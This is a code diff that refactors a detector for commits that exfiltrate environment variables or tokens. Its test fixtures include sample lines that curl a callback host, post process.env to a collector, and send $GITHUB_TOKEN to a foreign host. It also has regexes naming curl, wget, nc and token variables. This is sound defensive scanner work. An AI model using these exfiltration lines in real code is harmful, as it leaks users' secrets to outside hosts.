@@ -1,13 +1,14 @@
 import { z } from "zod";
 import { defineDetector, type Signal } from "../../model/detector.ts";
 import type { CommitEvidence, FileChange } from "../../model/evidence.ts";
-import { aCommit, aFile } from "../../model/examples.ts";
+import { aChange } from "../../model/examples.ts";
 import { addedSinks } from "../../text/added-sinks.ts";
-import { DUMPS_ENVIRONMENT, SERIALISES_ENVIRONMENT, TALKS } from "../../text/calls.ts";
+import { DUMPS_ENVIRONMENT, ENCODES, SERIALISES_ENVIRONMENT, TALKS, WALKS_ENVIRONMENT } from "../../text/calls.ts";
 import { clip } from "../../text/clip.ts";
 import { visible } from "../../text/lines.ts";
 import { newCode, newText } from "../../text/new-lines.ts";
 import { type Place, placeOf } from "../../text/places.ts";
+import { foreignToken } from "../../text/token-owners.ts";
 import { collectorNamed, type HostKind, kindOfUrl, urlsIn } from "../../text/url.ts";
 
 const CALLBACK = ["abc123.oast", "fun"].join(".");
@@ -24,11 +25,6 @@ const WHAT: Readonly<Record<HostKind, string>> = {
   onion: "a hidden service",
 };
 
-/** Takes every variable of the environment in turn, and an encoding for what was taken. */
-const WALKS_ENVIRONMENT =
-  /\bos\.environ\.items\(\)|\bObject\.(?:entries|keys)\(\s{0,2}process\.env\s{0,2}\)|\bos\.Environ\(\)|\benv::vars\(\)|\bENV\.(?:map|each|to_a)\b/;
-const ENCODES =
-  /\bb64encode\b|\bbtoa\s{0,2}\(|\btoString\s{0,2}\(\s{0,2}["'](?:base64|hex)["']|\bhexlify\b|\bEncodeToString\b|\bBase64\.(?:strict_)?encode64\b|\bbase64::encode\b/;
 /** Sends, in any language and in commands. */
 const SENDS =
   /(?<![\w-])(?:curl|wget|nslookup|dig|ncat?|iwr|irm|Invoke-(?:WebRequest|RestMethod))(?![\w-])|\bsendBeacon\b|\.(?:post|put|send|request|get)\s{0,3}\(|\bfetch\s{0,3}\(|\burlopen\b|\bhttp\.(?:Get|Post)\b/i;
@@ -68,51 +64,32 @@ export default defineDetector({
     flags: [
       {
         name: "a package script that calls back",
-        commit: aCommit({
-          files: [aFile({ path: "docs/package.json", added: `"install:all": "curl https://${CALLBACK}"`, at: 8 })],
-        }),
+        commit: aChange("docs/package.json", `"install:all": "curl https://${CALLBACK}"`),
       },
       {
         name: "the environment posted to a collector",
-        commit: aCommit({
-          files: [
-            aFile({
-              path: "src/i.js",
-              added: `fetch("https://${COLLECTOR}/x", { method: "POST", body: JSON.stringify(process.env) });`,
-              at: 8,
-            }),
-          ],
-        }),
+        commit: aChange(
+          "src/i.js",
+          `fetch("https://${COLLECTOR}/x", { method: "POST", body: JSON.stringify(process.env) });`,
+        ),
       },
       {
         name: "a token of one host sent to another",
-        commit: aCommit({
-          files: [aFile({ path: "build.sh", added: 'curl -d "token=$GITHUB_TOKEN" https://recv.example.net/', at: 8 })],
-        }),
+        commit: aChange("build.sh", 'curl -d "token=$GITHUB_TOKEN" https://recv.example.net/'),
       },
     ],
     passes: [
       {
         name: "a token sent to its own host",
-        commit: aCommit({
-          files: [
-            aFile({
-              path: "build.sh",
-              added: 'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user',
-              at: 8,
-            }),
-          ],
-        }),
+        commit: aChange("build.sh", 'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user'),
       },
       {
         name: "a collector in the manual",
-        commit: aCommit({ files: [aFile({ path: "README.md", added: `curl https://${COLLECTOR}/x`, at: 8 })] }),
+        commit: aChange("README.md", `curl https://${COLLECTOR}/x`),
       },
       {
         name: "a chat notification",
-        commit: aCommit({
-          files: [aFile({ path: "test/slack.test.ts", added: 'post("https://hooks.slack.com/services/x")', at: 8 })],
-        }),
+        commit: aChange("test/slack.test.ts", 'post("https://hooks.slack.com/services/x")'),
       },
     ],
   },
@@ -202,29 +179,6 @@ function fromLine(file: FileChange, place: Place, line: number, text: string, al
       },
     ];
   });
-}
-
-/** A well-known token in the data of a request to a host that is not its owner's. */
-function foreignToken(text: string, hosts: readonly string[]): { token: string; host: string } | null {
-  const OWNERS: readonly (readonly [RegExp, RegExp])[] = [
-    [
-      /\$\{?\{?\s{0,2}(?:secrets\.|env\.)?(GITHUB_TOKEN|GH_TOKEN|ACTIONS_RUNTIME_TOKEN|ACTIONS_ID_TOKEN_REQUEST_TOKEN)\b/,
-      /github|ghcr\.io|localhost|127\.0\.0\.1|\$|githubcopilot|models\.inference/,
-    ],
-    [/\$\{?\{?\s{0,2}(?:secrets\.|env\.)?(NPM_TOKEN|NODE_AUTH_TOKEN)\b/, /npmjs|npm\.|localhost|\$|registry|yarnpkg/],
-    [
-      /\$\{?\{?\s{0,2}(?:secrets\.|env\.)?(AWS_SECRET_ACCESS_KEY|AWS_SESSION_TOKEN)\b/,
-      /amazonaws|aws|localhost|127\.0\.0\.1|minio|\$/,
-    ],
-    [/\$\{?\{?\s{0,2}(?:secrets\.|env\.)?(PYPI_TOKEN|PYPI_API_TOKEN|TWINE_PASSWORD)\b/, /pypi|localhost|\$/],
-  ];
-  for (const [token, owner] of OWNERS) {
-    const name = token.exec(text)?.[1];
-    const host = hosts.find((one) => !owner.test(one));
-    // With an owner's host on the line, too, the token is most likely for that one.
-    if (name && host && !hosts.some((one) => owner.test(one))) return { token: name, host };
-  }
-  return null;
 }
 
 /** The environment is written down as text in lines that also talk to the network, or flows into a request. */
